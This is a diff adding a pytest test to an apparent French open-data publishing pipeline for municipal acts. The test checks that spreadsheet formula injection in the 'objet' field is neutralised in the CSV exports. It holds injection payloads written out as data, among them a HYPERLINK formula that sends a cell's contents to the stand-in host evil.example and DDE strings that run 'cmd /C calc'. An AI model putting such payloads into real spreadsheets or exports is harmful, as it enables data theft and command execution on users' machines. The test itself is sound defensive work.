@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 
+import pandas as pd
 import pytest
 
 from samples.actes import minimal_pdf
@@ -209,3 +210,33 @@ def test_publication_open_data_codes_follow_the_flow_and_unknown_codes_wait(tmp_
 
     assert set(public_csv(settings, "actes/actes-2025.csv")["SOURCE_ID"]) == {"G000001", "S000001", "P000001"}
     assert {a["source_id"] for a in report(settings)["to_decide"]} == {"G000002", "S000002", "P000003", "P000004"}
+
+
+# Spreadsheet formulas in text
+
+
+FORMULAS = {
+    "F000001": '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
+    "F000002": "+cmd|' /C calc'!A0",
+    "F000003": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "F000004": "-2+3",
+}
+
+
+def test_a_formula_in_an_objet_reaches_the_csv_as_text_and_everything_else_as_sent(tmp_path, monkeypatch):
+    settings = settings_for(tmp_path, monkeypatch)
+    for number, (id_d, objet) in enumerate(sorted(FORMULAS.items()), 1):
+        write_act(settings.drop_dir, id_d, act_data(f"DEL_2025_{number:03d}", objet=objet))
+
+    run_night(settings)
+
+    for name, column, ids in (("actes/actes-2025.csv", "ACTE_OBJET", "SOURCE_ID"),
+                              ("deliberations/deliberations-2025.csv", "DELIB_OBJET", None)):
+        frame = public_csv(settings, name)
+        assert sorted(frame[column]) == sorted("'" + objet for objet in FORMULAS.values()), name
+        # dates and codes are untouched
+        assert set(frame[column.replace("OBJET", "DATE")]) == {"2025-02-27"}
+    parquet = pd.read_parquet(store_root(settings) / "public/actes/actes-2025.parquet")
+    assert sorted(parquet["ACTE_OBJET"]) == sorted(FORMULAS.values())
+    widget = json.loads((store_root(settings) / f"public/widgets/actes/{SIREN}/2025.json").read_text(encoding="utf-8"))
+    assert sorted(a["objet"] for a in widget["actes"]) == sorted(FORMULAS.values())
